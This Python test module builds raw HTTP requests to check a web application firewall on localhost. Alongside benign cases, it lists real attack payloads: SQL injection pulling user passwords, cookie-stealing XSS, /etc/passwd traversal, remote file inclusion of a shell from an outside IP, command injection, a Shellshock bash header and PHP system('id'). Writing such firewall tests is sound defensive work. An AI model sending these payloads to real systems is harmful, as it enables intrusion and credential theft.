"""Requests for a web application firewall: benign ones, attacks, and oddities that attackers hide behind.

They are sent byte by byte over a socket: no client library sends a raw `\\xff` in a header, or one header twice.
Payloads are real ones and of no use by themselves; they are sent to 127.0.0.1 only.
"""

import socket
from dataclasses import dataclass

SECONDS = 60.0
"""A machine that others use too may take long."""

AGENT = b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120 Safari/537.36"


@dataclass(frozen=True)
class Case:
    """A request, and what the Core Rule Set finds in it: a class of `exporter.catalog.WAF_CLASSES`, empty for nothing.

    `status` is the application's answer where the firewall lets the request through.
    """

    name: str
    target: bytes
    attack: str = ""
    headers: tuple[bytes, ...] = ()
    body: bytes = b""
    host: bytes = b"shop.example.com"
    agent: bytes = AGENT
    status: int = 200

    def head(self) -> bytes:
        """The request as it goes over the wire, with its body."""
        method = b"POST" if self.body else b"GET"
        lines = [
            method + b" " + self.target + b" HTTP/1.1",
            b"Host: " + self.host,
            b"User-Agent: " + self.agent,
            b"Accept: text/html",
            b"Connection: close",
            *self.headers,
        ]
        if self.body:
            lines.append(b"Content-Length: %d" % len(self.body))
            if not any(header.lower().startswith(b"content-type:") for header in self.headers):
                lines.append(b"Content-Type: application/x-www-form-urlencoded")
        return b"\r\n".join(lines) + b"\r\n\r\n" + self.body


SCRIPT = b"%3Cscript%3Ealert(document.cookie)%3C/script%3E"

BENIGN = (
    Case("root", b"/"),
    Case("query", b"/search?q=red+shoes&page=2"),
    Case("form", b"/post", body=b"name=alice&qty=2"),
    Case("not_found", b"/static/nothing-here", status=404),
)

OWN_ERRORS = (
    Case("own_500", b"/err", status=500),
    Case("own_403", b"/forbidden", status=403),
)
"""The application's own errors: a WAF writes a record, in which no rule found anything."""

ATTACKS = (
    Case(
        "sqli_get",
        b"/item?id=1%27%20OR%20%271%27=%271%27%20UNION%20SELECT%20user,password%20FROM%20users--%20-",
        "sqli",
    ),
    Case("sqli_post", b"/post", "sqli", body=b"user=admin' OR 1=1-- -&pass=x"),
    Case(
        "sqli_json",
        b"/post",
        "sqli",
        headers=(b"Content-Type: application/json",),
        body=b'{"id":"1 UNION SELECT password FROM users"}',
    ),
    Case("xss_script", b"/q?q=" + SCRIPT, "xss"),
    Case("xss_img", b"/q?q=%3Cimg%20src=x%20onerror=alert(1)%3E", "xss"),
    Case("lfi", b"/download?file=../../../../etc/passwd", "lfi"),
    Case("rfi", b"/p?page=http://203.0.113.9/shell.txt%3F", "rfi"),
    Case("rce", b"/ping?host=127.0.0.1;ls%20-la%20/srv", "rce"),
    Case("rce_shellshock", b"/", "rce", headers=(b'X-Test: () { :; }; /bin/bash -c "id"',)),
    Case("php", b"/?x=%3C?php%20system(%27id%27);%20?%3E", "php"),
    Case("scanner", b"/", "scanner", agent=b"sqlmap/1.7.2#stable (https://sqlmap.org)"),
    Case(
        "session_fixation",
        b"/?x=%3Cscript%3Edocument.cookie=%22sid=1;domain=.example.com%22%3C/script%3E",
        "xss",
    ),
    Case("other_host", b"/q?q=" + SCRIPT, "xss", host=b"evil.example.net"),
    Case("api_host", b"/q?q=" + SCRIPT, "xss", host=b"api.example.org:8443"),
    Case(
        "repeated_header",
        b"/q?q=" + SCRIPT,
        "xss",
        headers=(b"X-Dup: a", b"X-Dup: b", b"X-Forwarded-For: 198.51.100.7"),
    ),
    Case("invalid_utf8_uri", b"/q?q=%FF%FE" + SCRIPT, "xss"),
    Case("invalid_utf8_header", b"/q?q=" + SCRIPT, "xss", headers=(b"X-Bin: \xff\xfe<script>alert(1)</script>",)),
)


def send(port: int, case: Case, seconds: float = SECONDS) -> int:
    """The status that the server on this port of 127.0.0.1 answers with; raises `OSError`, as on a time-out."""
    with socket.create_connection(("127.0.0.1", port), timeout=seconds) as connection:
        connection.sendall(case.head())
        answer = b""
        while b"\r\n" not in answer:
            piece = connection.recv(65536)
            if not piece:
                raise ConnectionError(f"{case.name}: the connection ended without an answer")
            answer += piece
        return int(answer.split(b" ", 2)[1])
